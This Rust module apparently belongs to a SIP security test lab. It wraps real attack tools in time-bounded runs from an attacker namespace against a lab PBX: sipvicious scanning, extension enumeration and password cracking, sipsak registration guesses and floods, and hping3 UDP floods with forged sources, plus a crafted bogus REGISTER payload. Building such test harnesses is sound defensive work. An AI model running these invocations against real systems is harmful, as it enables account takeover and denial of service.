//! The real attack tools, run from the attacker's namespace, each bounded
//! in time and packets: sipvicious (svmap, svwar, svcrack), sipsak and
//! hping3 (Debian packages installed by `cargo xtask deps`).

use std::{
    path::PathBuf,
    process::Command,
    time::{Duration, Instant},
};

use super::topology::{gateway, Topology, ATTACKER, PBX};

/// One tool run: when it started, how long it took, what it printed.
#[derive(Debug, Clone)]
pub struct ToolRun {
    pub tool: String,
    pub from: String,
    pub started: Instant,
    pub elapsed: Duration,
    pub output: String,
}

/// Runs the tools from the attacker namespace. sipvicious keeps session
/// files under $HOME: a private one here.
pub struct Attacker {
    ns: String,
    home: tempfile::TempDir,
}

/// Hard limit on any one tool (they stop by themselves much sooner).
const TOOL_LIMIT_S: &str = "30";

impl Attacker {
    pub fn new(topo: &Topology) -> Attacker {
        Attacker {
            ns: topo.attacker.name.clone(),
            home: tempfile::tempdir().expect("attacker home"),
        }
    }

    /// Tools that cannot bind an address (svwar) send from the default
    /// route's preferred source: point it at `addr`.
    pub fn send_from(&self, addr: &str) {
        let status = Command::new("ip")
            .args(["-n", &self.ns, "route"])
            .args(["replace", "default", "via", &gateway(ATTACKER), "src", addr])
            .status()
            .expect("ip route");
        assert!(status.success(), "attacker source {addr}");
    }

    fn run(&self, from: &str, tool: &str, args: &[String]) -> ToolRun {
        let started = Instant::now();
        let out = Command::new("timeout")
            .args([TOOL_LIMIT_S, "ip", "netns", "exec", &self.ns, tool])
            .args(args)
            .env("HOME", self.home.path())
            .output()
            .unwrap_or_else(|e| panic!("{tool}: {e} (install it: cargo xtask deps)"));
        let mut output = String::from_utf8_lossy(&out.stdout).into_owned();
        output.push_str(&String::from_utf8_lossy(&out.stderr));
        ToolRun {
            tool: tool.into(),
            from: from.into(),
            started,
            elapsed: started.elapsed(),
            output,
        }
    }

    /// `svmap`: finds SIP devices with OPTIONS (User-Agent friendly-scanner).
    pub fn svmap(&self, from: &str) -> ToolRun {
        self.send_from(from);
        self.run(from, "svmap", &s(&["-p5060", "-b", from, "-t", "0.3", PBX]))
    }

    /// `svwar`: enumerates extensions `range` with REGISTER.
    pub fn svwar(&self, from: &str, range: &str) -> ToolRun {
        self.send_from(from);
        self.run(
            from,
            "svwar",
            &s(&[
                &format!("-e{range}"),
                "-m",
                "REGISTER",
                "-t",
                "0.3",
                &format!("udp://{PBX}:5060"),
            ]),
        )
    }

    /// `svcrack`: guesses `extension`'s password from `passwords` in order.
    pub fn svcrack(&self, from: &str, extension: &str, passwords: &[&str]) -> ToolRun {
        self.send_from(from);
        let dict = self.home.path().join("dictionary.txt");
        std::fs::write(&dict, passwords.join("\n") + "\n").expect("dictionary");
        self.run(
            from,
            "svcrack",
            &s(&[
                "-u",
                extension,
                "-d",
                path(&dict),
                "-b",
                from,
                "-t",
                "0.05",
                "--maximumtime",
                "2",
                &format!("udp://{PBX}:5060"),
            ]),
        )
    }

    /// `sipsak` registering as `extension` with one password guess.
    pub fn sipsak_register(&self, from: &str, extension: &str, password: &str) -> ToolRun {
        self.send_from(from);
        self.run(
            from,
            "sipsak",
            &s(&[
                "-U",
                "-C",
                &format!("sip:{extension}@{from}"),
                "-a",
                password,
                "--local-ip",
                from,
                "--timer-t1",
                "100",
                "-s",
                &format!("sip:{extension}@{PBX}"),
            ]),
        )
    }

    /// `sipsak -F`: a flood of `count` OPTIONS as fast as it can.
    pub fn sipsak_flood(&self, from: &str, count: u32) -> ToolRun {
        self.send_from(from);
        self.run(
            from,
            "sipsak",
            &s(&[
                "-F",
                "-e",
                &count.to_string(),
                "--local-ip",
                from,
                "-s",
                &format!("sip:100@{PBX}"),
            ]),
        )
    }

    /// `hping3`: `count` UDP datagrams to 5060 forging source `spoof`, one
    /// every `gap_us`, carrying `payload` (a SIP request).
    pub fn hping_flood(&self, spoof: &str, count: u32, gap_us: u32, payload: &[u8]) -> ToolRun {
        let file: PathBuf = self.home.path().join(format!("payload-{spoof}"));
        std::fs::write(&file, payload).expect("payload file");
        self.run(
            spoof,
            "hping3",
            &s(&[
                "--udp",
                "-p",
                "5060",
                "-s",
                "5060",
                "-k",
                "-a",
                spoof,
                "-c",
                &count.to_string(),
                "-i",
                &format!("u{gap_us}"),
                "-E",
                path(&file),
                "-d",
                &payload.len().to_string(),
                "-q",
                PBX,
            ]),
        )
    }
}

fn s(args: &[&str]) -> Vec<String> {
    args.iter().map(|a| a.to_string()).collect()
}

fn path(p: &std::path::Path) -> &str {
    p.to_str().expect("utf-8 temp path")
}

/// A REGISTER for extension 200 with made-up credentials, as a password
/// guesser (or someone framing `from`) would send it.
pub fn bogus_register(from: &str) -> Vec<u8> {
    format!(
        "REGISTER sip:{PBX} SIP/2.0\r\nVia: SIP/2.0/UDP {from}:5060;branch=z9hG4bKflood\r\nMax-Forwards: 70\r\nFrom: <sip:200@{PBX}>;tag=f1\r\nTo: <sip:200@{PBX}>\r\nCall-ID: flood@{from}\r\nCSeq: 1 REGISTER\r\nContact: <sip:200@{from}:5060>\r\nAuthorization: Digest username=\"200\", realm=\"sipshield-lab\", nonce=\"00\", uri=\"sip:{PBX}\", response=\"00000000000000000000000000000000\", algorithm=MD5\r\nUser-Agent: Z 5.5.2\r\nContent-Length: 0\r\n\r\n"
    )
    .into_bytes()
}
